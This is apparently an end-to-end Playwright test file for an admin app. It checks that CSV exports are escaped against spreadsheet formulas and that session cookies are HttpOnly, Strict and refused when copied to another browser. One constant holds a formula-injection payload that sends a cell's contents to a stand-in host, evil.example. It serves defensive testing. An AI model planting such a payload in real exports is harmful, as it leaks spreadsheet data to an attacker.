"""Issue 24, the admin app: CSV exports are spreadsheet-safe, and the sign-in cookie is the server's.

In Chromium against the real server (``streamlit run admin_ui/entry/app.py``): the downloaded CSV
holds no formula; the table toolbar's own export is off; the session cookie is HttpOnly, SameSite=Strict
and, over TLS, Secure; a copied cookie does not open the app in another browser and stops working
once the owner's browser loads a page; signing out in one tab shows the sign-in page in every other
tab without a reload.
"""

from __future__ import annotations

import csv
import datetime
import io
import ipaddress

import pytest
from playwright.sync_api import expect

from tests.e2e.app_utils import eventually, fill, goto, key, sign_in, sign_out, wait_for_app
from tests.e2e.conftest import start_server, stop_server
from tests.e2e.test_journeys import PASSWORDS

pytestmark = pytest.mark.e2e

COOKIE = "agent_memory_session"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
OTHER_BROWSER_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
SIGN_IN_PAGE = "Sign in to agent-memory"


def session_cookie(page) -> dict | None:
    """The session cookie as the browser holds it (the claim request lands a moment after sign-in)."""
    found: list[dict] = []

    def present() -> bool:
        found[:] = [c for c in page.context.cookies() if c["name"] == COOKIE and c["value"] != "signed-out"]
        return bool(found)

    eventually(page, present)
    return found[0] if found else None


def signed_in(page, base, username="viewer") -> dict:
    goto(page, base)
    sign_in(page, username, PASSWORDS[username])
    expect(page.locator(".st-key-signout")).to_be_visible()
    cookie = session_cookie(page)
    assert cookie is not None, "the server never set the sign-in cookie"
    return cookie


def copy_into(browser, cookie: dict, **context_args):
    context = browser.new_context(viewport={"width": 1440, "height": 1000}, **context_args)
    context.add_cookies([{k: cookie[k] for k in ("name", "value", "domain", "path", "httpOnly", "secure", "sameSite")}])
    return context


def write_formula_record(store) -> str:
    from admin_ui.runtime import RuntimeConfig, open_service

    service = open_service(RuntimeConfig(store=str(store)))
    try:
        service.grant("e2e-exporter", "user:alice", read=True, write=True, actor="test")
        session = service.start_session(agent_id="e2e-exporter", user_id="alice")
        result = session.call_tool("memory_write", {"type": "semantic", "content": HYPERLINK})
        assert result["ok"], result
        return result["record_id"]
    finally:
        service.close()


def test_the_csv_download_holds_no_formula_and_the_table_toolbar_exports_nothing(app_server, page):
    base, store = app_server
    record_id = write_formula_record(store)
    goto(page, base, "records")
    fill(page, "records_text", "evil.example")
    expect(key(page, "records_table_box")).to_be_visible()
    with page.expect_download() as download_info:
        key(page, "records_table_csv").locator("button").click()
    path = download_info.value.path()
    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    (row,) = [r for r in rows if r["id"] == record_id]
    assert row["content"] == "'" + HYPERLINK  # shown by a spreadsheet as the text it is
    for cell in (c for r in rows for c in r.values()):
        assert cell[:1] not in ("\t", "\r") and cell.lstrip()[:1] not in ("=", "+", "-", "@"), cell
    # Streamlit's own toolbar (which writes cells verbatim) offers no download on any table.
    grid = key(page, "records_table_box").locator('[data-testid="stDataFrame"]')
    grid.hover()
    expect(page.locator('[data-testid="stElementToolbar"]').first).to_be_attached()
    assert page.get_by_role("button", name="Download as CSV").count() == 0


def test_the_sign_in_cookie_is_set_by_the_server_httponly_and_strict(plain_server, page):
    base, _ = plain_server
    cookie = signed_in(page, base)
    assert cookie["httpOnly"] is True and cookie["sameSite"] == "Strict" and cookie["secure"] is False  # plain HTTP
    assert COOKIE not in page.evaluate("document.cookie")  # page scripts cannot read it
    # A reload keeps the person signed in, under a new token.
    page.reload()
    wait_for_app(page)
    expect(page.locator(".st-key-signout")).to_be_visible()
    assert session_cookie(page)["value"] != cookie["value"]


def test_a_copied_cookie_is_refused_in_another_browser(plain_server, page, browser):
    base, _ = plain_server
    cookie = signed_in(page, base)
    elsewhere = copy_into(browser, cookie, user_agent=OTHER_BROWSER_UA)
    try:
        thief = elsewhere.new_page()
        goto(thief, base, "records")
        expect(thief.get_by_text(SIGN_IN_PAGE)).to_be_visible()
        expect(thief.get_by_text("the cookie belongs to another browser")).to_be_visible()
        assert thief.get_by_role("heading", name="Records").count() == 0
    finally:
        elsewhere.close()
    # The owner is still signed in.
    page.reload()
    wait_for_app(page)
    expect(page.locator(".st-key-signout")).to_be_visible()


def test_a_copied_cookie_ends_the_sign_in_for_both_once_the_owner_loads_a_page(plain_server, page, browser):
    base, _ = plain_server
    cookie = signed_in(page, base)
    # The same browser build (same User-Agent) with the copied value: it works until the owner's
    # browser loads a page, which presents the token the copy replaced; then it ends everywhere.
    twin = copy_into(browser, cookie)
    try:
        thief = twin.new_page()
        goto(thief, base)
        expect(thief.locator(".st-key-signout")).to_be_visible()
        page.reload()
        wait_for_app(page)
        expect(page.get_by_text(SIGN_IN_PAGE)).to_be_visible()
        expect(page.get_by_text("already been replaced was presented again")).to_be_visible()
        expect(thief.get_by_text(SIGN_IN_PAGE)).to_be_visible()  # the copy's open tab, without a reload
    finally:
        twin.close()


def test_signing_out_in_one_tab_shows_the_sign_in_page_in_the_others_without_a_reload(plain_server, page):
    base, _ = plain_server
    signed_in(page, base, "reviewer")
    other = page.context.new_page()
    try:
        goto(other, base, "records")
        expect(other.get_by_role("heading", name="Records")).to_be_visible()
        other.evaluate("window.__same_document = true")
        sign_out(page)
        expect(other.get_by_text(SIGN_IN_PAGE)).to_be_visible()
        assert other.evaluate("window.__same_document === true")  # the tab was not reloaded
        assert other.get_by_role("heading", name="Records").count() == 0
        # Both tabs stay signed out after a reload, and the browser no longer holds a live token.
        other.reload()
        wait_for_app(other)
        expect(other.get_by_text("You are signed out.")).to_be_visible()
        assert [c["value"] for c in page.context.cookies() if c["name"] == COOKIE] == ["signed-out"]
    finally:
        other.close()


def _self_signed(directory):
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key_ = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key_.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=2))
            .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), critical=False)
            .sign(key_, hashes.SHA256()))
    cert_path, key_path = directory / "cert.pem", directory / "key.pem"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(key_.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                            serialization.NoEncryption()))
    return cert_path, key_path


@pytest.fixture(scope="module")
def tls_server(demo_template, tmp_path_factory):
    workdir = tmp_path_factory.mktemp("tls")
    proc, base, store, log = start_server(demo_template, workdir, demo=False, tls=_self_signed(workdir))
    yield base, store
    stop_server(proc, log)


def test_over_tls_the_cookie_is_also_secure(tls_server, browser):
    base, _ = tls_server
    context = browser.new_context(ignore_https_errors=True, viewport={"width": 1440, "height": 1000})
    try:
        page = context.new_page()
        cookie = signed_in(page, base)
        assert cookie["secure"] is True and cookie["httpOnly"] is True and cookie["sameSite"] == "Strict"
    finally:
        context.close()
